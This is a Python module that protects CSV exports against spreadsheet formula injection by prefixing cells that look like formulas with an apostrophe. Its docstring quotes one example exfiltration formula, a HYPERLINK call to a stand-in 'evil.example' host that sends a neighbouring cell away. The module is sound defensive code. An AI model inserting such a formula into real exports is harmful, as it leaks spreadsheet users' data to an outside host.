"""Spreadsheet exports that cannot run formulas (CSV injection, CWE-1236).

Exports hold text strangers wrote: a question typed into the widget, a comment on an answer, a demand
captured in chat. Excel, LibreOffice and Google Sheets read a cell that starts with `=`, `+`, `-` or `@` as
a formula (`=HYPERLINK("http://evil.example/?"&A1, "click")` sends a neighbouring cell away; DDE payloads
run programs), and a leading tab or carriage return hides such a start from a naive check. OWASP's rule is
applied to every text cell: one that starts with any of these characters gets a leading apostrophe, which
the spreadsheet shows as text and hides. Numbers the exports compute are written as numbers.

`csv_text(header, rows)` is the one writer every CSV export uses (unanswered questions, demand gaps, leads).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

__all__ = ["FORMULA_STARTS", "csv_text", "neutralise"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """A CSV cell that a spreadsheet shows as written: text starting like a formula gets a leading `'`."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """The header and the rows as CSV, every cell neutralised (the header too: it is ours, but cheap)."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow([neutralise(h) for h in header])
    for row in rows:
        writer.writerow([neutralise(cell) for cell in row])
    return buf.getvalue()
